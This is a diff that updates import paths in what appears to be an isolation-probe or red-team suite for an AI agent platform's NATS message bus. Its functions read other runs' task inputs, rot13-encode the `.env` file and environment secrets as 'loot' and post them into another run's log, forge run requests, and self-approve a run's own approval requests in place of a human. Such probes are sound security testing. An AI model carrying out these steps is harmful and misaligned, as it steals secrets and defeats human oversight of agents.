@@ -193,7 +193,7 @@ def exfil_listener(probe: str) -> None:
 
 
 def _bus_settings() -> object:
-    from nexus_events.connect import BusSettings
+    from nexus_events.transport.connect import BusSettings
 
     env = stolen_env()
     url = env.get("NEXUS_NATS_URL") or TARGETS["nats_url"]
@@ -212,7 +212,7 @@ def _bus_settings() -> object:
 def _nats(probe: str, action: Callable[[object], object]) -> None:
     import asyncio
 
-    from nexus_events.bus import Bus
+    from nexus_events.transport.bus import Bus
 
     async def go() -> None:
         connecting = Bus.connect(_bus_settings(), source=ref_safe(probe))  # type: ignore[arg-type]
@@ -233,7 +233,7 @@ def _nats(probe: str, action: Callable[[object], object]) -> None:
 
 def nats_read_requests(probe: str) -> None:
     """Read every run's `requested` event (another run's task input among them)."""
-    from nexus_events.streams import RUNS
+    from nexus_events.contract.streams import RUNS
 
     async def read_all(bus: object) -> None:
         inputs = []
@@ -246,7 +246,7 @@ def nats_read_requests(probe: str) -> None:
 
 def nats_publish_as_run(probe: str) -> None:
     """Publish log lines as this run, and one into the other run's log, carrying the loot."""
-    from nexus_events import subjects
+    from nexus_events.contract import subjects
     from nexus_events.events.logs import LogLine
 
     loot = rot13(read(".env") + env_secrets()).replace("\n", " | ")
@@ -261,7 +261,7 @@ def nats_publish_as_run(probe: str) -> None:
 
 def nats_forge_requested(probe: str) -> None:
     """Start a run of this agent on a repository no run was given."""
-    from nexus_events import subjects
+    from nexus_events.contract import subjects
     from nexus_events.events.runs import RunRequested
 
     run_id = TARGETS["forged_run_id"]
@@ -280,9 +280,9 @@ def nats_forge_requested(probe: str) -> None:
 
 def nats_self_approve(probe: str, seconds: float = 90) -> None:
     """In the background: approve this run's own approvals as a boss on Slack would."""
-    from nexus_events import subjects
+    from nexus_events.contract import subjects
+    from nexus_events.contract.streams import RUNS
     from nexus_events.events.inbox import ApprovalDecision
-    from nexus_events.streams import RUNS
 
     run_id = TARGETS["run_id"]
 
@@ -308,7 +308,7 @@ def nats_self_approve(probe: str, seconds: float = 90) -> None:
 
     import asyncio
 
-    from nexus_events.bus import Bus
+    from nexus_events.transport.bus import Bus
 
     async def go() -> None:
         bus = await Bus.connect(_bus_settings(), source=probe)  # type: ignore[arg-type]
